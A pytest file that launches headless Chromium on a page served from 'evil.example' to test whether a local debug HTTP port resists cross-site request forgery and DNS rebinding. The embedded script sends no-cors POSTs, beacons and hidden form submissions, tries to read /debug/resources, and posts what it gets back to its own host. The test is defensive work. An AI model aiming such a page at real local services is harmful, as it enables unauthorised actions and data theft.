"""A page of another site in a real browser (Chromium, if there is one), and what it gets done at our HTTP port."""

import http.server
import json
import shutil
import subprocess
import threading
from pathlib import Path
from typing import Any

import pytest

from tests.support.processes import wait_for
from tests.support.stack import Stack
from tests.support.web import ask

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), "")

PAGE = """<!doctype html><iframe name=f></iframe>
<script>
const out = {};
async function go(base, name, path, options) {
  try { const answer = await fetch(base + path, options); out[base + " " + name] = answer.type == "opaque" ? "opaque" : await answer.text(); }
  catch (error) { out[base + " " + name] = "nothing"; }
}
(async () => {
  for (const base of TARGETS) {
    await go(base, "simple post", "/debug/release?kind=shrink", {method: "POST", mode: "no-cors"});
    await go(base, "text post", "/debug/release", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: "a"});
    await go(base, "post with the field", "/debug/release", {method: "POST", headers: {"X-Requested-By": "page"}});
    await go(base, "read", "/debug/resources", {});
    await go(base, "load", "/debug/resources", {mode: "no-cors"});
    navigator.sendBeacon(base + "/debug/release");
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", target: "f", action: base + "/debug/release?kind=retained"});
    document.body.append(form);
    form.submit();
    await new Promise(resolve => setTimeout(resolve, 1000));
  }
  await fetch("/result", {method: "POST", body: JSON.stringify(out)});
})();
</script>"""


class Site:
    """A web site: serves the page, takes its result, and counts what is posted to it at other paths."""

    def __init__(self, page: str = "") -> None:
        self.posted: list[str] = []
        self.result: dict[str, Any] = {}
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page.encode())

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                if self.path == "/result":
                    site.result = json.loads(body)
                else:
                    site.posted.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *_: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.port = self.server.server_port

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.mark.skipif(not CHROMIUM, reason="there is no Chromium: install one to see what a page in a browser can do")
def test_a_page_of_another_site_releases_and_reads_nothing(tmp_path: Path) -> None:
    """By no kind of request, nor by a name of its own for our address; the same page does get at a server that lets it."""
    naive = Site()
    with Stack(tmp_path) as stack:
        control_plane = stack.control_plane()
        control_plane.wait_ready()
        ours = [f"http://{host}:{stack.http_port}" for host in ("127.0.0.1", "rebound.example")]
        site = Site(PAGE.replace("TARGETS", json.dumps([f"http://127.0.0.1:{naive.port}", *ours])))
        command = [
            CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path / 'profile'}",
            "--host-resolver-rules=MAP *.example 127.0.0.1", f"http://evil.example:{site.port}/",
        ]  # fmt: skip
        with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as browser:
            try:
                wait_for("the page", lambda: bool(site.result), 60, control_plane)
            finally:
                browser.terminate()
        timeline = ask(f"{control_plane.url}/debug/timeline")[1]

    assert len(naive.posted) >= 4, "the page did nothing"
    assert "released " not in timeline
    assert {"nothing"} == {
        what for name, what in site.result.items() if not name.startswith(f"http://127.0.0.1:{naive.port} ")
    }
    naive.close()
    site.close()
